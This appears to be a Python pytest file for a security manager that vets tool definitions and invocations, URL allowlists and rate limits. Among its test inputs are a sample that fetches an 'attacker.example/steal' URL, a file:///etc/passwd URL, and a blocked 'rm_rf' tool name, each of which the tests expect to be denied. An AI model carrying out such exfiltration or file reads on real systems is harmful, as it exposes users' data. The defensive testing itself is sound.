"""
Security Manager Tests
----------------------
Definition vetting, invocation vetting, URL allowlist and rate limits.
"""

import pytest

from tools.rate_limiter import KeyedRateLimiter, RateLimitConfig, RateLimiter
from tools.registry import BuiltinTool, ParameterType, ToolParameter, ToolSchema
from tools.security import SecurityManager, SecurityPolicy, extract_domain, policy_from_settings
from infra.config import SecuritySettings


def _schema(name="word_counter"):
    return ToolSchema(name, "Count words", [ToolParameter("text", ParameterType.STRING)])


def _tool(name="word_counter"):
    return BuiltinTool(schema=_schema(name), handler=lambda args: "ok")


class FakeClock:
    def __init__(self):
        self.now = 0.0

    def __call__(self):
        return self.now


class TestUrlAllowlist:

    @pytest.mark.parametrize("url,domain", [
        ("https://en.wikipedia.org/wiki/X", "en.wikipedia.org"),
        ("http://user:pw@GitHub.com:8080/path", "github.com"),
        ("docs.rs/serde", "docs.rs"),
    ])
    def test_extract_domain(self, url, domain):
        assert extract_domain(url) == domain

    def test_subdomain_allowed(self, security):
        assert security.is_url_allowed("https://en.wikipedia.org/wiki/Python")

    def test_lookalike_denied(self, security):
        verdict = security.is_url_allowed("https://evilwikipedia.org/")
        assert not verdict.allowed
        assert "not in allowlist" in verdict.reason

    def test_non_http_scheme_denied(self, security):
        assert not security.is_url_allowed("file:///etc/passwd")

    def test_allow_and_block_domain(self, security):
        security.allow_domain("Example.com")
        assert security.is_url_allowed("https://api.example.com/x")
        security.block_domain("example.com")
        assert not security.is_url_allowed("https://api.example.com/x")


class TestVetDefinition:

    def test_clean_definition_allowed(self, security):
        verdict = security.vet_definition(_schema(), "return str(len(args['text'].split()))")
        assert verdict.allowed
        assert repr(verdict) == "Allow"

    def test_reserved_name_denied(self, security):
        security.reserve_names(["calculate"])
        verdict = security.vet_definition(_schema("calculate"), "return 1")
        assert not verdict.allowed
        assert "reserved" in verdict.reason

    def test_blocked_name_denied(self, security):
        security.block_tool("word_counter")
        assert not security.vet_definition(_schema(), "return 1").allowed

    def test_unknown_capability_denied(self, security):
        verdict = security.vet_definition(_schema(), "return 1", ["filesystem"])
        assert not verdict.allowed
        assert "filesystem" in verdict.reason

    def test_oversized_code_denied(self):
        manager = SecurityManager(SecurityPolicy(max_code_bytes=10))
        verdict = manager.vet_definition(_schema(), "return 'this is too long'")
        assert not verdict.allowed
        assert "exceeds" in verdict.reason

    def test_scanner_rejection_propagates(self, security):
        verdict = security.vet_definition(_schema(), "import os\nreturn os.getcwd()")
        assert not verdict.allowed
        assert verdict.reason.startswith("Code rejected:")

    def test_deadline_swallowing_loop_denied(self, security):
        """A bare except around a busy loop would outlive the deadline."""
        code = "while True:\n    try:\n        while True:\n            pass\n    except:\n        pass"
        verdict = security.vet_definition(_schema(), code)
        assert not verdict.allowed
        assert verdict.reason == "Code rejected: Bare 'except:' is not allowed; catch Exception (line 5)"

    def test_module_patching_denied(self, security):
        verdict = security.vet_definition(_schema(), "json.dumps = None\nreturn 'ok'", ["json"])
        assert not verdict.allowed
        assert "Assigning attribute 'dumps'" in verdict.reason

    def test_url_requires_network_capability(self, security):
        code = "return fetch('https://en.wikipedia.org/wiki/Python')"
        verdict = security.vet_definition(_schema(), code)
        assert not verdict.allowed
        assert "network" in verdict.reason

    def test_url_outside_allowlist_denied(self, security):
        code = "return fetch('https://attacker.example/steal')"
        verdict = security.vet_definition(_schema(), code, ["network"])
        assert not verdict.allowed
        assert "attacker.example" in verdict.reason

    def test_allowlisted_url_allowed(self, security):
        code = "return fetch('https://en.wikipedia.org/wiki/Python')"
        assert security.vet_definition(_schema(), code, ["network"]).allowed


class TestVetInvocation:

    def test_valid_arguments_allowed(self, security):
        assert security.vet_invocation("word_counter", {"text": "a b"}, _tool()).allowed

    def test_schema_violation_denied(self, security):
        verdict = security.vet_invocation("word_counter", {"text": 3}, _tool())
        assert not verdict.allowed
        assert "Invalid type" in verdict.reason

    def test_unknown_argument_denied(self, security):
        verdict = security.vet_invocation("word_counter", {"text": "a", "_raw": "x"}, _tool())
        assert not verdict.allowed

    def test_non_dict_arguments_denied(self, security):
        assert not security.vet_invocation("word_counter", "text", _tool()).allowed

    def test_blocked_tool_denied(self, security):
        security.block_tool("word_counter")
        assert not security.vet_invocation("word_counter", {"text": "a"}, _tool()).allowed
        security.unblock_tool("word_counter")
        assert security.vet_invocation("word_counter", {"text": "a"}, _tool()).allowed

    def test_payload_size_limit(self):
        manager = SecurityManager(SecurityPolicy(max_argument_bytes=32))
        verdict = manager.vet_invocation("word_counter", {"text": "x" * 100}, _tool())
        assert not verdict.allowed
        assert "exceeds limit" in verdict.reason

    def test_rate_limit_per_tool(self):
        clock = FakeClock()
        manager = SecurityManager(
            SecurityPolicy(invocations_per_minute=60, invocation_burst=2), clock=clock
        )
        args = {"text": "a"}
        assert manager.vet_invocation("word_counter", args, _tool())
        assert manager.vet_invocation("word_counter", args, _tool())
        denied = manager.vet_invocation("word_counter", args, _tool())
        assert not denied.allowed
        assert "Rate limit" in denied.reason

        # Other tools have their own bucket
        assert manager.vet_invocation("other", args, _tool("other")).allowed

        clock.now += 1.0
        assert manager.vet_invocation("word_counter", args, _tool()).allowed

    def test_forget_tool_resets_bucket(self):
        manager = SecurityManager(SecurityPolicy(invocation_burst=1), clock=FakeClock())
        args = {"text": "a"}
        assert manager.vet_invocation("word_counter", args, _tool())
        assert not manager.vet_invocation("word_counter", args, _tool())
        manager.forget_tool("word_counter")
        assert manager.vet_invocation("word_counter", args, _tool())


class TestRateLimiter:

    def test_refill_is_capped_at_burst(self):
        clock = FakeClock()
        limiter = RateLimiter(RateLimitConfig(requests_per_minute=60, burst_size=3), clock=clock)
        clock.now += 100.0
        assert limiter.available_tokens == 3.0

    def test_keyed_limiter_isolates_keys(self):
        limiter = KeyedRateLimiter(RateLimitConfig(burst_size=1), clock=FakeClock())
        assert limiter.try_acquire("a")
        assert not limiter.try_acquire("a")
        assert limiter.try_acquire("b")


class TestPolicyFromSettings:

    def test_settings_are_copied(self):
        settings = SecuritySettings(allowed_domains=["Example.COM"], blocked_tools=["rm_rf"])
        policy = policy_from_settings(settings, reserved_names=["calculate"])
        assert policy.allowed_domains == {"example.com"}
        assert policy.blocked_tools == {"rm_rf"}
        assert policy.reserved_names == {"calculate"}
